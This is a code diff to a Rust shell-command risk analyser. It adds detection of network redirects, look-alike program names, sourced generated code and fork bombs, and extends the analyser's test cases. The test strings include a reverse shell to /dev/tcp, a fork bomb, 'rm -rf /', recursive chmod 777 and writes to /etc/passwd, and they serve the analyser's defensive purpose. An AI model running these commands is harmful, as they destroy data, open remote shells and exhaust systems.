@@ -74,7 +74,9 @@ impl Analysis {
         if !writes || matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") {
             return;
         }
-        if path::is_device(target) {
+        if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
+            self.add("network-redirect", Risk::High, "connects to the network");
+        } else if path::is_device(target) {
             self.add("write-device", Risk::Critical, "writes over a disk");
         } else if path::is_system(target) || path::is_personal_setup(target) {
             let risk = if redirect.kind == RedirectKind::Truncate || as_root { Risk::High } else { Risk::Medium };
@@ -152,8 +154,16 @@ impl Analysis {
             let whole = call.operands.iter().any(|word| path::is_vital(&word.shape));
             self.add("find-delete", if whole { Risk::High } else { Risk::Medium }, "deletes what it finds");
         }
-        if matches!(call.name, "source" | ".") && around.nested_download {
-            self.add("remote-code", Risk::High, "runs what it downloads");
+        if !call.name.is_ascii() {
+            self.add("foreign-letters", Risk::Medium, "the program's name has letters that may look like others");
+        }
+        if matches!(call.name, "source" | ".") {
+            let fed = call.operands.is_empty() && !around.feeders.is_empty();
+            if around.nested_download || (fed && downloads(around.feeders)) {
+                self.add("remote-code", Risk::High, "runs what it downloads");
+            } else if fed || !around.command.nested.is_empty() {
+                self.add("generated-code", Risk::Medium, "runs the output of another program");
+            }
         }
         if !unwrap::is_interpreter(call.name) {
             return;
@@ -223,9 +233,10 @@ fn reads_program(call: &Call<'_>) -> bool {
     from_input || (!inline && call.operands.first().is_none_or(|word| matches!(word.shape.as_str(), "-" | "/dev/stdin")))
 }
 
+/// A function that calls itself through a pipe or in the background doubles with every call.
 fn forks_itself(command: &Command, feeders: &[Command]) -> bool {
     let itself = |other: &Command| other.function.is_some() && other.name() == other.function.as_deref();
-    itself(command) && feeders.iter().any(itself)
+    itself(command) && (command.background || feeders.iter().any(itself))
 }
 
 /// A name for a line of prose.
@@ -347,6 +358,7 @@ mod tests {
                 "cat <(rm -r x)",
                 "/bin/r? -rf x",
                 "{rm,-r,x}",
+                "r$(echo m) x",
                 "`echo rm` x",
                 "echo x > /etc/passwd",
                 "bash <<E\nrm -r x\nE",
@@ -359,6 +371,7 @@ mod tests {
                 "/bin/rm -r x",
                 "echo x > ~/.bashrc",
                 "env -S 'rm -r x'",
+                "bash -i >& /dev/tcp/a/1 0>&1",
             ],
         );
     }
@@ -385,6 +398,7 @@ mod tests {
                 "sh -c 'rm -rf /'",
                 "cd / && rm -rf /home",
                 "f() { f | f & }; f",
+                ":(){ :&:; };:",
                 "find / -exec rm -rf / \\;",
                 "chmod -R 777 /",
                 "true; (rm -rf ~/)",
